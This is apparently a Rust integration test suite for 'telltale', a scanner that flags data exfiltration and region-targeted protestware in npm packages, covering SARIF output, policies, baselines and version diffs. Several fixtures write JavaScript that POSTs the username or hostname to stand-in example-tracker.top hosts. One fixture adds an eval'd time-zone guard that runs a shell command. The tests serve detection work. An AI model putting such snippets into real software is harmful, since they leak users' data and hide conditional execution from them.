//! Reports and gates: SARIF validated against the official schema, policy files, baselines
//! and `telltale diff`, through the binary.

mod common;

use common::assert_valid_sarif;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn telltale() -> Command {
    Command::new(env!("CARGO_BIN_EXE_telltale"))
}

fn corpus(path: &str) -> PathBuf {
    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpus")
        .join(path);
    assert!(
        p.exists(),
        "the corpus is missing at {}: the test suite needs ../shared/corpus",
        p.display()
    );
    p
}

fn write(dir: &Path, name: &str, body: &str) {
    let p = dir.join(name);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, body).unwrap();
}

fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// A package with a flow, code run by `eval` and a region guard, in a temp folder.
fn flow_package() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "package.json",
        r#"{"name":"phone-home","version":"1.0.0"}"#,
    );
    write(
        dir.path(),
        "index.js",
        "const os = require('os');\nconst who = os.userInfo().username;\nfetch('https://collect.example-tracker.top/u', { method: 'POST', body: who });\n\
         eval(\"if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai') { require('child_process').exec('x'); }\");\n",
    );
    dir
}

#[test]
fn sarif_validates_against_the_official_schema() {
    let pkg = flow_package();
    let out = telltale()
        .args(["scan", "--format", "sarif"])
        .arg(pkg.path())
        .arg(corpus("npm/es5-ext-0.10.64.tgz"))
        .arg(corpus("samples/npm/lodashs-1.0.2.tgz"))
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json(&out);
    assert_valid_sarif(&doc);
    let run = &doc["runs"][0];
    assert_eq!(doc["version"], "2.1.0");
    // Every rule with its documentation as help.
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    assert_eq!(rules.len(), telltale_rule_count());
    let tt201 = rules.iter().find(|r| r["id"] == "TT201").unwrap();
    assert!(
        tt201["help"]["markdown"]
            .as_str()
            .unwrap()
            .contains("## Why it matters"),
        "{tt201}"
    );
    assert!(tt201["properties"]["security-severity"].is_string());
    let results = run["results"].as_array().unwrap();
    // A flow as a code flow; the file inside the folder, relative to where it was named.
    let flow = results
        .iter()
        .find(|r| r["ruleId"] == "TT102")
        .expect("an exfiltration result");
    assert!(
        flow["codeFlows"][0]["threadFlows"][0]["locations"]
            .as_array()
            .unwrap()
            .len()
            >= 2,
        "{flow}"
    );
    let uri = flow["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        .as_str()
        .unwrap();
    assert!(
        uri.ends_with("/index.js")
            && uri.contains(
                &pkg.path()
                    .file_name()
                    .unwrap()
                    .to_string_lossy()
                    .to_string()
            ),
        "{uri}"
    );
    // Code in eval is a nested artifact of the file that carries it.
    let nested = results
        .iter()
        .find(|r| r["ruleId"] == "TT201" && r["properties"]["countries"][0] == "CN")
        .expect("the region guard inside eval");
    let index = nested["locations"][0]["physicalLocation"]["artifactLocation"]["index"]
        .as_u64()
        .unwrap() as usize;
    let artifact = &run["artifacts"][index];
    let parent = artifact["parentIndex"]
        .as_u64()
        .expect("nested artifact has a parent") as usize;
    assert!(
        run["artifacts"][parent]["location"]["uri"]
            .as_str()
            .unwrap()
            .ends_with("index.js"),
        "{artifact}"
    );
    assert_eq!(
        nested["locations"][0]["logicalLocations"][0]["fullyQualifiedName"],
        "index.js › eval#1"
    );
    // The protestware's region result names its countries and its target.
    let es5 = results
        .iter()
        .find(|r| {
            r["ruleId"] == "TT201"
                && r["properties"]["target"]
                    .as_str()
                    .unwrap()
                    .contains("es5-ext")
        })
        .unwrap();
    assert_eq!(
        es5["properties"]["countries"],
        serde_json::json!(["RU", "UA"])
    );
    assert_eq!(es5["properties"]["package"], "es5-ext");
    for r in results {
        assert!(
            r["partialFingerprints"]["telltale/v1"]
                .as_str()
                .is_some_and(|f| f.len() > 16),
            "{r}"
        );
    }
}

fn telltale_rule_count() -> usize {
    let out = telltale().arg("rules").output().unwrap();
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .filter(|l| l.starts_with("TT"))
        .count()
}

#[test]
fn fingerprints_survive_reruns_and_moved_lines() {
    let dir = tempfile::tempdir().unwrap();
    let body = "const os = require('os');\nfetch('https://t.example-tracker.top/x', { method: 'POST', body: os.hostname() });\n";
    write(
        dir.path(),
        "package.json",
        r#"{"name":"p","version":"1.0.0"}"#,
    );
    write(dir.path(), "a.js", body);
    let prints = |dir: &Path| -> Vec<String> {
        let doc = json(
            &telltale()
                .args(["scan", "--format", "json"])
                .arg(dir)
                .output()
                .unwrap(),
        );
        let mut v: Vec<String> = doc["targets"][0]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| format!("{} {}", f["rule"], f["fingerprint"]))
            .collect();
        v.sort();
        v
    };
    let first = prints(dir.path());
    assert!(!first.is_empty());
    assert_eq!(first, prints(dir.path()));
    write(dir.path(), "a.js", &format!("// a new header\n\n\n{body}"));
    assert_eq!(
        first,
        prints(dir.path()),
        "moving code down changed fingerprints"
    );
}

#[test]
fn policy_file_is_found_upward_and_decides_findings() {
    let work = tempfile::tempdir().unwrap();
    let nested = work.path().join("a/b");
    std::fs::create_dir_all(&nested).unwrap();
    let es5 = corpus("npm/es5-ext-0.10.64.tgz");
    // By default the medium region finding passes.
    let out = telltale()
        .args(["scan", "--format", "json"])
        .arg(&es5)
        .current_dir(&nested)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    // Denying any country-targeting code fails it, and the reason names the line.
    write(
        work.path(),
        "telltale.toml",
        "# gate\n[deny]\ncountries = [\"*\"]\n",
    );
    let out = telltale()
        .args(["scan", "--format", "json"])
        .arg(&es5)
        .current_dir(&nested)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json(&out);
    let region = doc["targets"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "TT201")
        .unwrap();
    assert_eq!(region["policy"]["fails"], true);
    assert_eq!(region["policy"]["by"], "deny");
    assert!(
        region["policy"]["reason"]
            .as_str()
            .unwrap()
            .contains("telltale.toml:3"),
        "{region}"
    );
    // An exception for the package, with its reason, wins.
    write(work.path(), "telltale.toml", "[deny]\ncountries = [\"*\"]\n\n[[exception]]\npackage = \"es5-ext\"\nrules = [\"region-conditional\"]\nreason = \"message only, reviewed\"\n");
    let out = telltale()
        .args(["scan"])
        .arg(&es5)
        .current_dir(&nested)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("accepted by the policy"));
    // --no-config ignores the file; --config names one.
    let out = telltale()
        .args(["scan", "--no-config", "--fail-on", "medium"])
        .arg(&es5)
        .current_dir(&nested)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let other = work.path().join("strict.toml");
    std::fs::write(&other, "fail-on = \"low\"\n").unwrap();
    let out = telltale()
        .args(["scan", "--config"])
        .arg(&other)
        .arg(&es5)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn allow_by_endpoint_needs_every_endpoint_allowed() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "package.json",
        r#"{"name":"p","version":"1.0.0"}"#,
    );
    write(dir.path(), "a.js", "const os = require('os');\nfetch('https://o1.ingest.example-tracker.top/x', { method: 'POST', body: os.hostname() });\n");
    let cfg = dir.path().join("p.toml");
    std::fs::write(&cfg, "[allow]\nendpoints = [\"*.example-tracker.top\"]\n").unwrap();
    let out = telltale()
        .args(["scan", "--format", "json", "--config"])
        .arg(&cfg)
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    std::fs::write(&cfg, "[allow]\nendpoints = [\"*.other.top\"]\n").unwrap();
    let out = telltale()
        .args(["scan", "--format", "json", "--config"])
        .arg(&cfg)
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn bad_config_names_the_key_and_the_line() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("telltale.toml");
    for (body, wants) in [
        (
            "fail-on = \"high\"\n[deny]\ncategories = [\"region\", \"spying\"]\n",
            vec!["telltale.toml:3", "deny.categories", "spying"],
        ),
        ("fail_on = \"high\"\n", vec!["line 1", "fail_on"]),
        (
            "[[exception]]\npackage = \"x\"\nrules = [\"TT201\"]\n",
            vec!["reason"],
        ),
        ("[deny\n", vec!["line 1"]),
    ] {
        std::fs::write(&cfg, body).unwrap();
        let out = telltale()
            .args(["scan"])
            .arg(corpus("npm/chalk-5.4.1.tgz"))
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2));
        let err = String::from_utf8_lossy(&out.stderr);
        for w in wants {
            assert!(err.contains(w), "{body:?}: wanted {w:?} in {err}");
        }
    }
}

#[test]
fn baseline_accepts_known_findings_and_fails_on_new_ones() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("pkg");
    write(&pkg, "package.json", r#"{"name":"p","version":"1.0.0"}"#);
    write(&pkg, "a.js", "const os = require('os');\nfetch('https://t.example-tracker.top/x', { method: 'POST', body: os.hostname() });\n");
    let baseline = dir.path().join("telltale-baseline.json");
    let out = telltale()
        .arg("baseline")
        .arg(&pkg)
        .arg("-o")
        .arg(&baseline)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = telltale()
        .args(["scan", "--no-config", "--baseline"])
        .arg(&baseline)
        .arg(&pkg)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    // The same baseline named in telltale.toml, relative to the file.
    write(
        dir.path(),
        "telltale.toml",
        "baseline = \"telltale-baseline.json\"\n",
    );
    let out = telltale()
        .args(["scan"])
        .arg(&pkg)
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    // A new send fails, and only it.
    write(&pkg, "b.js", "const os = require('os');\nfetch('https://new.example-tracker.top/y', { method: 'POST', body: os.userInfo().username });\n");
    let out = telltale()
        .args(["scan", "--format", "json"])
        .arg(&pkg)
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let doc = json(&out);
    let failing: Vec<&Value> = doc["targets"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["policy"]["fails"] == true)
        .collect();
    assert!(
        !failing.is_empty() && failing.iter().all(|f| f["file"] == "b.js"),
        "{failing:?}"
    );
    // A damaged baseline is a clear error.
    std::fs::write(&baseline, "{").unwrap();
    let out = telltale()
        .args(["scan"])
        .arg(&pkg)
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("baseline"));
}

#[test]
fn diff_es5_ext_shows_the_new_time_zone_targeting_of_russia() {
    let out = telltale()
        .args(["diff", "--format", "json", "--no-config"])
        .arg(corpus("npm/es5-ext-0.10.53.tgz"))
        .arg(corpus("npm/es5-ext-0.10.64.tgz"))
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json(&out);
    let added = doc["added"].as_array().unwrap();
    let region = added
        .iter()
        .find(|c| c["aspect"] == "region")
        .unwrap_or_else(|| panic!("{doc}"));
    assert!(
        region["countries"]
            .as_array()
            .unwrap()
            .contains(&Value::from("RU")),
        "{region}"
    );
    assert!(
        region["what"].as_str().unwrap().contains("timeZone"),
        "{region}"
    );
    assert!(
        added.iter().any(|c| c["aspect"] == "install-script"),
        "{doc}"
    );
    assert!(doc["removed"].as_array().unwrap().is_empty(), "{doc}");
    assert!(doc["findings"]["added"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["rule"] == "TT201"));
    assert_eq!(doc["old"]["version"], "0.10.53");
    assert_eq!(doc["new"]["version"], "0.10.64");
    // The other way round it is a removal; text says so.
    let out = telltale()
        .args(["diff", "--no-config"])
        .arg(corpus("npm/es5-ext-0.10.64.tgz"))
        .arg(corpus("npm/es5-ext-0.10.53.tgz"))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("- region") && text.contains("RU"), "{text}");
    // SARIF marks the added results `new`, and is valid.
    let out = telltale()
        .args(["diff", "--format", "sarif", "--no-config"])
        .arg(corpus("npm/es5-ext-0.10.53.tgz"))
        .arg(corpus("npm/es5-ext-0.10.64.tgz"))
        .output()
        .unwrap();
    let sarif = json(&out);
    assert_valid_sarif(&sarif);
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert!(
        !results.is_empty() && results.iter().all(|r| r["baselineState"] == "new"),
        "{results:?}"
    );
}

#[test]
fn diff_of_sweetalert2_shows_the_protestware_removed_and_same_versions_show_nothing() {
    // 11.4.8 predates the Russian-locale code that 11.22.3 still carries.
    let out = telltale()
        .args(["diff", "--format", "json", "--no-config"])
        .arg(corpus("npm/sweetalert2-11.22.3.tgz"))
        .arg(corpus("npm/sweetalert2-11.4.8.tgz"))
        .output()
        .unwrap();
    let doc = json(&out);
    let removed = doc["removed"].as_array().unwrap();
    let region = removed
        .iter()
        .find(|c| c["aspect"] == "region")
        .unwrap_or_else(|| panic!("{doc}"));
    assert!(
        region["countries"]
            .as_array()
            .unwrap()
            .contains(&Value::from("RU")),
        "{region}"
    );
    assert!(
        doc["added"]
            .as_array()
            .unwrap()
            .iter()
            .all(|c| c["aspect"] != "region"),
        "{doc}"
    );
    // A target against itself: nothing added or removed.
    let same = corpus("npm/sweetalert2-11.22.3.tgz");
    let doc = json(
        &telltale()
            .args(["diff", "--format", "json", "--no-config"])
            .arg(&same)
            .arg(&same)
            .output()
            .unwrap(),
    );
    assert!(
        doc["added"].as_array().unwrap().is_empty()
            && doc["removed"].as_array().unwrap().is_empty(),
        "{doc}"
    );
    assert!(
        doc["findings"]["added"].as_array().unwrap().is_empty()
            && doc["findings"]["unchanged"].as_u64().unwrap() > 0
    );
}

#[test]
fn diff_fails_only_on_added_findings_that_fail_the_policy() {
    let (old, new) = (
        corpus("npm/es5-ext-0.10.53.tgz"),
        corpus("npm/es5-ext-0.10.64.tgz"),
    );
    let out = telltale()
        .args(["diff", "--no-config", "--fail-on", "medium"])
        .arg(&old)
        .arg(&new)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("FAILS"));
    // Removed findings never fail.
    let out = telltale()
        .args(["diff", "--no-config", "--fail-on", "info"])
        .arg(&new)
        .arg(&old)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let out = telltale()
        .args(["diff", "--no-config"])
        .arg(&old)
        .arg("/nonexistent/x.tgz")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    // The page decides as the exit status does, and says so in its banner.
    for (fail_on, code, banner) in [
        ("medium", 1, "<section class=\"verdict fails\""),
        ("high", 0, "<section class=\"verdict passes\""),
    ] {
        let out = telltale()
            .args([
                "diff",
                "--no-config",
                "--format",
                "html",
                "--fail-on",
                fail_on,
            ])
            .arg(&old)
            .arg(&new)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(code));
        let page = String::from_utf8(out.stdout).unwrap();
        assert!(
            page.starts_with("<!DOCTYPE html>") && page.contains(banner),
            "{page}"
        );
    }
}

#[test]
fn rules_and_explain() {
    let out = telltale().arg("rules").output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.lines().any(|l| l.starts_with("TT201")
            && l.contains("region-conditional")
            && l.contains("Code that runs only for users")),
        "{text}"
    );
    let out = telltale().args(["explain", "TT201"]).output().unwrap();
    let doc = String::from_utf8(out.stdout).unwrap();
    assert!(
        doc.starts_with("# TT201 region-conditional")
            && doc.contains("## Example")
            && !doc.contains("\n ## "),
        "{doc}"
    );
    assert_eq!(
        telltale()
            .args(["explain", "TT999"])
            .output()
            .unwrap()
            .status
            .code(),
        Some(2)
    );
}
